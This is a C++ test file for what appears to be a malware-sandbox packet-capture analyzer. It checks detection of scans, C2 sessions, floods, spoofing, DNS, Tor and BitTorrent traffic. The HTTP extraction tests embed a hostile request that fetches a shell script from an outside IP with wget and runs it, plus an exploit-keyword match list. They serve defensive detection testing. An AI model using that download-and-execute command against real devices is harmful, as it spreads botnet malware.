#include <catch2/catch_amalgamated.hpp>

#include <algorithm>

#include "trapline/fixtures/pcap_builder.hpp"
#include "trapline/pcap/analyzer.hpp"

using namespace trapline;
using namespace trapline::pcap;
using trapline::fixtures::CaptureBuilder;

static bool has_scan(const std::vector<ScanFinding>& v, uint16_t port, const std::string& kind) {
  return std::any_of(v.begin(), v.end(),
                     [&](const ScanFinding& s) { return s.port == port && s.kind == kind; });
}

static bool has_ddos(const std::vector<DdosFinding>& v, const std::string& victim,
                     const std::string& kind) {
  return std::any_of(v.begin(), v.end(), [&](const DdosFinding& d) {
    return d.victim == victim && d.kind == kind;
  });
}

TEST_CASE("capture files round-trip in both byte orders") {
  CaptureBuilder b;
  b.handshake("1.2.3.4", 80, 40000).dns_query("example.net");
  for (bool swapped : {false, true}) {
    Capture cap = read_capture(b.build(swapped));
    CHECK(cap.packets.size() == 4);
    CHECK(cap.truncated == 0);
    auto d = decode_packet(cap.packets[0]);
    REQUIRE(d);
    CHECK(d->src_ip == "10.0.2.15");
    CHECK(d->dst_ip == "1.2.3.4");
    CHECK(d->dst_port == 80);
    CHECK((d->tcp_flags & kTcpSyn));
  }
}

TEST_CASE("corrupt captures are rejected, truncated tails counted") {
  SECTION("bad magic") {
    Bytes junk(64, 0xEE);
    CHECK_THROWS_AS(read_capture(junk), Error);
  }
  SECTION("shorter than the global header") {
    Bytes tiny{0xD4, 0xC3};
    CHECK_THROWS_AS(read_capture(tiny), Error);
  }
  SECTION("non-ethernet link type") {
    Bytes hdr;
    put_u32(hdr, kMagicNative, false);
    put_u16(hdr, 2, false);
    put_u16(hdr, 4, false);
    put_u32(hdr, 0, false);
    put_u32(hdr, 0, false);
    put_u32(hdr, 65535, false);
    put_u32(hdr, 101, false);  // raw IP
    try {
      read_capture(hdr);
      FAIL("expected error");
    } catch (const Error& e) {
      CHECK(e.kind() == ErrorKind::unsupported);
    }
  }
  SECTION("record length past the end of file") {
    CaptureBuilder b;
    b.handshake("1.2.3.4", 80, 40000);
    Bytes file = b.build();
    Bytes cut(file.begin(), file.end() - 7);
    Capture cap = read_capture(cut);
    CHECK(cap.packets.size() == 2);
    CHECK(cap.truncated == 1);
  }
  SECTION("empty capture is a valid empty table") {
    Bytes file = CaptureBuilder{}.build();
    FlowTable t = assemble_flows(file);
    CHECK(t.flows.empty());
    CHECK(t.packets_total == 0);
  }
}

TEST_CASE("one completed handshake makes one established flow") {
  FlowTable t = assemble_flows(CaptureBuilder{}.handshake("5.6.7.8", 23, 40001).build());
  REQUIRE(t.flows.size() == 1);
  const auto& [key, st] = *t.flows.begin();
  CHECK(key.remote_host == "5.6.7.8");
  CHECK(key.remote_port == 23);
  CHECK(key.local_endpoint == "10.0.2.15:40001");
  CHECK(st.syn_sent == 1);
  CHECK(st.synack_recv == 1);
  CHECK(st.established);
  CHECK(t.sandbox_ip == "10.0.2.15");
}

TEST_CASE("a fifty host sweep makes fifty flows and no establishment") {
  FlowTable t = assemble_flows(CaptureBuilder{}.syn_sweep(23, 50, 0).build());
  CHECK(t.flows.size() == 50);
  for (const auto& [k, st] : t.flows) CHECK_FALSE(st.established);
}

TEST_CASE("flow assembly conserves packets") {
  CaptureBuilder b;
  b.syn_sweep(23, 20, 3).dns_query("x.test").c2_session("9.9.9.9", 443, 2);
  // an ARP frame: parsed as a packet, unusable for flows
  Packet arp;
  arp.data.assign(14, 0);
  arp.data[12] = 0x08;
  arp.data[13] = 0x06;
  arp.orig_len = 14;
  b.raw(arp);
  FlowTable t = assemble_flows(b.build());
  uint64_t in_flows = 0;
  for (const auto& [k, st] : t.flows) in_flows += st.packets;
  CHECK(in_flows + t.packets_skipped == t.packets_total);
  CHECK(t.packets_skipped == 1);
}

TEST_CASE("flow counters are order independent") {
  CaptureBuilder b;
  b.syn_sweep(23, 15, 2).c2_session("8.8.4.4", 4700, 3);
  auto packets = b.packets();
  std::reverse(packets.begin(), packets.end());
  FlowTable fwd = assemble_flows(write_capture(b.packets()));
  FlowTable rev = assemble_flows(write_capture(packets));
  REQUIRE(fwd.flows.size() == rev.flows.size());
  CHECK(fwd.sandbox_ip == rev.sandbox_ip);
  auto scans_f = detect_scans(fwd);
  auto scans_r = detect_scans(rev);
  CHECK(scans_f == scans_r);
}

TEST_CASE("syn scan detection follows the ratio and the host floor") {
  SECTION("fifty hosts, two complete: scan") {
    auto scans = detect_scans(assemble_flows(CaptureBuilder{}.syn_sweep(23, 50, 2).build()));
    REQUIRE(scans.size() == 1);
    CHECK(scans[0].port == 23);
    CHECK(scans[0].kind == "syn");
    CHECK(scans[0].hosts_scanned == 50);
  }
  SECTION("nine hosts never fire") {
    CHECK(detect_scans(assemble_flows(CaptureBuilder{}.syn_sweep(23, 9, 0).build())).empty());
  }
  SECTION("ten hosts with none established fire") {
    auto scans = detect_scans(assemble_flows(CaptureBuilder{}.syn_sweep(23, 10, 0).build()));
    REQUIRE(scans.size() == 1);
    CHECK(scans[0].hosts_scanned == 10);
  }
  SECTION("half established is not a scan") {
    CHECK(detect_scans(assemble_flows(CaptureBuilder{}.syn_sweep(80, 20, 10).build())).empty());
  }
  SECTION("exactly twenty percent goes to the C2 side") {
    Bytes cap = CaptureBuilder{}.syn_sweep(23, 10, 2).build();
    CHECK(detect_scans(assemble_flows(cap)).empty());
    auto [c2, p2p] = detect_c2(assemble_flows(cap));
    CHECK(c2.size() == 2);
  }
  SECTION("just under twenty percent stays a scan") {
    Bytes cap = CaptureBuilder{}.syn_sweep(23, 50, 9).build();  // 0.18
    auto scans = detect_scans(assemble_flows(cap));
    REQUIRE(scans.size() == 1);
    auto [c2, p2p] = detect_c2(assemble_flows(cap));
    CHECK(c2.empty());
  }
}

TEST_CASE("fin scans are fins outnumbering synacks") {
  SECTION("twelve bare fin probes") {
    auto scans = detect_scans(assemble_flows(CaptureBuilder{}.fin_scan(22, 12).build()));
    REQUIRE(scans.size() == 1);
    CHECK(scans[0].kind == "fin");
    CHECK(scans[0].port == 22);
    CHECK(scans[0].hosts_scanned == 12);
  }
  SECTION("nine probes stay under the floor") {
    CHECK(detect_scans(assemble_flows(CaptureBuilder{}.fin_scan(22, 9).build())).empty());
  }
}

TEST_CASE("c2 detection keys on completed connections") {
  SECTION("one full connection is c2") {
    auto [c2, p2p] =
        detect_c2(assemble_flows(CaptureBuilder{}.c2_session("45.148.10.154", 4700, 3).build()));
    REQUIRE(c2.size() == 1);
    CHECK(c2[0].host == "45.148.10.154");
    CHECK(c2[0].port == 4700);
    CHECK(c2[0].protocol == "tcp");
    CHECK_FALSE(p2p);
  }
  SECTION("six peers tip into p2p, five do not") {
    CaptureBuilder five;
    for (int i = 0; i < 5; i++)
      five.c2_session("77.0.0." + std::to_string(i + 1), 6000,

                      2, static_cast<uint16_t>(42000 + i));
    CHECK_FALSE(detect_c2(assemble_flows(five.build())).second);

    CaptureBuilder six;
    for (int i = 0; i < 6; i++)
      six.c2_session("77.0.0." + std::to_string(i + 1), 6000, 2,
                     static_cast<uint16_t>(42000 + i));
    CHECK(detect_c2(assemble_flows(six.build())).second);
  }
  SECTION("nothing established means no c2") {
    auto [c2, p2p] = detect_c2(assemble_flows(CaptureBuilder{}.syn_sweep(23, 50, 0).build()));
    CHECK(c2.empty());
    CHECK_FALSE(p2p);
  }
}

TEST_CASE("a port is never both scanned and c2") {
  std::vector<Bytes> captures;
  captures.push_back(CaptureBuilder{}.syn_sweep(23, 50, 2).build());
  captures.push_back(CaptureBuilder{}.syn_sweep(23, 10, 2).build());
  captures.push_back(CaptureBuilder{}.syn_sweep(80, 20, 10).c2_session("9.9.9.9", 80, 2).build());
  captures.push_back(
      CaptureBuilder{}.syn_sweep(23, 40, 4).c2_session("9.9.9.9", 4700, 2).fin_scan(22, 15).build());
  for (const auto& cap : captures) {
    FlowTable t = assemble_flows(cap);
    auto scans = detect_scans(t);
    auto [c2, p2p] = detect_c2(t);
    for (const auto& s : scans)
      for (const auto& c : c2) CHECK(s.port != c.port);
  }
}

TEST_CASE("flood detection") {
  SECTION("acks dwarfing syns") {
    auto [ddos, spoof] =
        detect_ddos(assemble_flows(CaptureBuilder{}.ack_flood("6.6.6.6", 80, 10000).build()));
    REQUIRE(ddos.size() == 1);
    CHECK(ddos[0].kind == "ack_flood");
    CHECK(ddos[0].victim == "6.6.6.6");
    CHECK(ddos[0].port == uint16_t{80});
    CHECK_FALSE(spoof);
  }
  SECTION("ninety nine acks against one syn stay quiet") {
    auto [ddos, spoof] =
        detect_ddos(assemble_flows(CaptureBuilder{}.ack_flood("6.6.6.6", 80, 99).build()));
    CHECK(ddos.empty());
  }
  SECTION("syn volume at the threshold") {
    auto [at, s1] =
        detect_ddos(assemble_flows(CaptureBuilder{}.syn_flood("6.6.6.6", 80, 1000).build()));
    CHECK(has_ddos(at, "6.6.6.6", "syn_flood"));
    auto [under, s2] =
        detect_ddos(assemble_flows(CaptureBuilder{}.syn_flood("6.6.6.6", 80, 999).build()));
    CHECK_FALSE(has_ddos(under, "6.6.6.6", "syn_flood"));
  }
  SECTION("udp floods need both volume and asymmetry") {
    auto [ddos, s] =
        detect_ddos(assemble_flows(CaptureBuilder{}.udp_flood("6.6.6.6", 53, 1000).build()));
    CHECK(has_ddos(ddos, "6.6.6.6", "udp_flood"));
    auto [under, s2] =
        detect_ddos(assemble_flows(CaptureBuilder{}.udp_flood("6.6.6.6", 53, 999).build()));
    CHECK_FALSE(has_ddos(under, "6.6.6.6", "udp_flood"));
  }
  SECTION("spoofed sources are reported") {
    CaptureBuilder b;
    b.c2_session("9.9.9.9", 4700, 2).spoofed_syn_flood("6.6.6.6", 80, 1500);
    auto t = assemble_flows(b.build());
    CHECK(t.sandbox_ip == "10.0.2.15");
    auto [ddos, spoof] = detect_ddos(t);
    CHECK(spoof);
    CHECK(has_ddos(ddos, "6.6.6.6", "syn_flood"));
  }
  SECTION("ordinary sessions spoof nothing") {
    auto [ddos, spoof] =
        detect_ddos(assemble_flows(CaptureBuilder{}.c2_session("9.9.9.9", 443, 5).build()));
    CHECK(ddos.empty());
    CHECK_FALSE(spoof);
  }
}

TEST_CASE("dns names are pulled from queries") {
  auto app = extract_application(
      CaptureBuilder{}.dns_query("agakarakoccnc.duckdns.org").dns_query("example.net").build());
  REQUIRE(app.dns_queries.size() == 2);
  CHECK(app.dns_queries[0] == "agakarakoccnc.duckdns.org");
  CHECK(app.dns_queries[1] == "example.net");
}

TEST_CASE("http requests come out of reassembled streams") {
  std::string req =
      "GET /shell?cd /tmp; wget http://23.254.130.186/bins/x.sh; sh x.sh HTTP/1.1\r\n"
      "Host: 10.9.8.7\r\n"
      "User-Agent: Mozilla/5.0\r\n\r\n";
  auto app = extract_application(CaptureBuilder{}.http_request("10.9.8.7", 80, req).build());
  REQUIRE(app.http_requests.size() == 1);
  const auto& r = app.http_requests[0];
  CHECK(r.host == "10.9.8.7");
  CHECK(r.user_agent == "Mozilla/5.0");
  CHECK(r.uri == "/shell?cd /tmp; wget http://23.254.130.186/bins/x.sh; sh x.sh");
  CHECK_FALSE(r.exploit_keyword_hits.empty());
  CHECK(std::find(r.exploit_keyword_hits.begin(), r.exploit_keyword_hits.end(), "/shell?") !=
        r.exploit_keyword_hits.end());
  CHECK(std::find(r.exploit_keyword_hits.begin(), r.exploit_keyword_hits.end(), "wget") !=
        r.exploit_keyword_hits.end());

  SECTION("a plain request has no keyword hits") {
    auto plain = extract_application(
        CaptureBuilder{}
            .http_request("10.9.8.7", 80, "GET /index.html HTTP/1.1\r\nHost: a.example\r\n\r\n")
            .build());
    REQUIRE(plain.http_requests.size() == 1);
    CHECK(plain.http_requests[0].exploit_keyword_hits.empty());
    CHECK(plain.http_requests[0].uri == "/index.html");
  }
  SECTION("a request split across segments reassembles") {
    CaptureBuilder b;
    b.handshake("10.9.8.7", 80, 47001);
    b.tcp(b.sandbox_ip(), 47001, "10.9.8.7", 80, kTcpAck | kTcpPsh, "GET /two-part");
    b.tcp(b.sandbox_ip(), 47001, "10.9.8.7", 80, kTcpAck | kTcpPsh,
          " HTTP/1.1\r\nHost: b.example\r\n\r\n");
    auto split = extract_application(b.build());
    REQUIRE(split.http_requests.size() == 1);
    CHECK(split.http_requests[0].uri == "/two-part");
    CHECK(split.http_requests[0].host == "b.example");
  }
}

TEST_CASE("tor indicators") {
  auto app = extract_application(CaptureBuilder{}
                                     .dns_query("payments4zyi2bsq.onion")
                                     .dns_query("somewhere.onion.to")
                                     .dns_query("plain.example")
                                     .build());
  REQUIRE(app.tor.onion_domains.size() == 1);
  CHECK(app.tor.onion_domains[0] == "payments4zyi2bsq.onion");
  REQUIRE(app.tor.gateway_connections.size() == 1);
  CHECK(app.tor.gateway_connections[0] == "somewhere.onion.to");
}

TEST_CASE("bittorrent markers in either transport") {
  CHECK(extract_application(CaptureBuilder{}.bittorrent_handshake("3.3.3.3").build())
            .bittorrent_detected);
  CHECK(extract_application(CaptureBuilder{}.dht_ping("3.3.3.3").build()).bittorrent_detected);
  CHECK_FALSE(extract_application(CaptureBuilder{}.c2_session("9.9.9.9", 443, 3).build())
                  .bittorrent_detected);
}

TEST_CASE("network reports assemble and round-trip through json") {
  CaptureBuilder b;
  b.syn_sweep(23, 50, 2)
      .c2_session("45.148.10.154", 4700, 3)
      .dns_query("agakarakoccnc.duckdns.org")
      .http_request("23.254.130.186", 80,
                    "GET /shell?cd /tmp; wget http://x/y.sh HTTP/1.1\r\nHost: h\r\n\r\n",
                    47002)
      .udp_flood("6.6.6.6", 53, 1200);
  NetworkReport rep = analyze_capture(b.build());
  CHECK(has_scan(rep.scans, 23, "syn"));
  REQUIRE_FALSE(rep.c2.empty());
  CHECK(std::any_of(rep.c2.begin(), rep.c2.end(), [](const C2Finding& c) {
    return c.host == "45.148.10.154" && c.port == 4700;
  }));
  CHECK_FALSE(rep.p2p);
  CHECK(has_ddos(rep.ddos, "6.6.6.6", "udp_flood"));
  CHECK(rep.dns_queries == std::vector<std::string>{"agakarakoccnc.duckdns.org"});
  REQUIRE_FALSE(rep.http_requests.empty());
  CHECK_FALSE(rep.bittorrent_detected);

  auto j = to_json(rep);
  auto back = network_report_from_json(j);
  CHECK(to_json(back) == j);
}
